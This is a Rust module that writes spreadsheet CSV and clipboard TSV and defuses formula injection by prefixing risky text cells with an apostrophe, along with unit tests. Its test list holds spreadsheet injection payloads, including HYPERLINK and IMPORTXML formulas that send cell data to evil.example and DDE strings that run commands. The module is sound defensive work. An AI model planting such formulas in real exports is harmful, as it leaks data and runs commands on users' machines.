//! Tables for spreadsheets: a file of comma-separated values, and tab-separated text for the clipboard.
//!
//! A spreadsheet takes a cell that begins with certain characters for a formula and runs it, whoever wrote it. Texts
//! that begin so get an apostrophe before them, which spreadsheets take for "this is text"; numbers stay numbers.

use csv::{Terminator, WriterBuilder};
use std::borrow::Cow;

/// A cell.
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Cell<'t> {
    /// Words, as somebody may have written them.
    Text(&'t str),
    /// A number, written with all its digits; one that is not finite leaves the cell empty.
    Number(f64),
    /// Nothing.
    Empty,
}

/// The rows as a file. It begins with the mark of UTF-8, without which Excel reads Chinese as something else.
#[must_use]
pub fn csv<'t>(rows: impl IntoIterator<Item = Vec<Cell<'t>>>) -> String {
    format!("\u{feff}{}", separated(rows, b','))
}

/// The rows for the clipboard, to be pasted into a spreadsheet.
#[must_use]
pub fn tsv<'t>(rows: impl IntoIterator<Item = Vec<Cell<'t>>>) -> String {
    separated(rows, b'\t')
}

fn separated<'t>(rows: impl IntoIterator<Item = Vec<Cell<'t>>>, by: u8) -> String {
    let mut writer =
        WriterBuilder::new().delimiter(by).terminator(Terminator::CRLF).flexible(true).from_writer(vec![]);
    for row in rows {
        // Writing into memory does not fail.
        _ = writer.write_record(row.into_iter().map(|cell| written(cell).into_owned().into_bytes()));
    }
    writer.into_inner().ok().and_then(|bytes| String::from_utf8(bytes).ok()).unwrap_or_default()
}

fn written(cell: Cell<'_>) -> Cow<'_, str> {
    match cell {
        Cell::Text(text) => defused(text),
        // `+ 0.0` makes a zero of a minus zero.
        Cell::Number(number) if number.is_finite() => (number + 0.0).to_string().into(),
        Cell::Number(_) | Cell::Empty => "".into(),
    }
}

/// A text that no spreadsheet runs. What cannot be seen before its first character does not count.
fn defused(text: &str) -> Cow<'_, str> {
    let unseen = |c: char| {
        c == ' '
            || matches!(
                c,
                '\u{a0}' | '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{3000}' | '\u{feff}'
            )
    };
    let first = text.trim_start_matches(unseen).chars().next();
    match first {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠' | '−') => {
            format!("'{text}").into()
        }
        _ => text.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::{Cell, csv, tsv};
    use Cell::{Empty, Number, Text};

    #[test]
    fn rows_are_as_spreadsheets_read_them() {
        let rows = || {
            vec![
                vec![Text("管道"), Text("成本（NT$）")],
                vec![Text("A, \"B\"\n"), Number(1234.5)],
                vec![Empty, Number(-0.25)],
            ]
        };
        assert_eq!(csv(rows()), "\u{feff}管道,成本（NT$）\r\n\"A, \"\"B\"\"\n\",1234.5\r\n,-0.25\r\n");
        assert_eq!(tsv(rows()), "管道\t成本（NT$）\r\n\"A, \"\"B\"\"\n\"\t1234.5\r\n\t-0.25\r\n");
        assert_eq!(csv([]), "\u{feff}");
    }

    #[test]
    fn numbers_keep_every_digit_and_never_an_exponent() {
        let of = |number| {
            tsv([vec![Text("n"), Number(number)]]).strip_prefix("n\t").unwrap().trim_end().to_owned()
        };
        for number in
            [0.1 + 0.2, 1e21, 1.0 / 3.0, 9_007_199_254_740_993.0, -12.5, 1e-7, f64::MIN_POSITIVE, f64::MAX]
        {
            assert_eq!(of(number).parse(), Ok(number));
            assert!(!of(number).contains(['e', 'E']), "{number}");
        }
        assert_eq!(of(-0.0), "0");
        assert_eq!([of(f64::NAN), of(f64::INFINITY)], ["", ""]);
    }

    #[test]
    fn no_text_becomes_a_formula() {
        let harmful = [
            "=1+1",
            "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
            "=cmd|' /C calc'!A0",
            "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
            "=WEBSERVICE(\"https://evil.example\")",
            "+1",
            "+1+cmd|' /C calc'!A0",
            "-1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1)",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1",
            "\r=1",
            "\n=1",
            "=1\n=2",
            "＝1+1",
            "＋1",
            "－1",
            "＠x",
            "−1",
            " =1",
            "\u{feff}=1",
            "\u{3000}＝1",
            "\u{200b}@x",
        ];
        for text in harmful {
            let cell = csv([vec![Text("n"), Text(text)]]);
            assert!(cell.contains(",'") || cell.contains(",\"'"), "{cell:?}");
        }
        for text in ["A=1", "LINE 官方帳號", "'=1", "3-1", "", "《=1》"] {
            assert!(!csv([vec![Text("n"), Text(text)]]).contains("n,'") || text.starts_with('\''), "{text}");
        }
    }
}
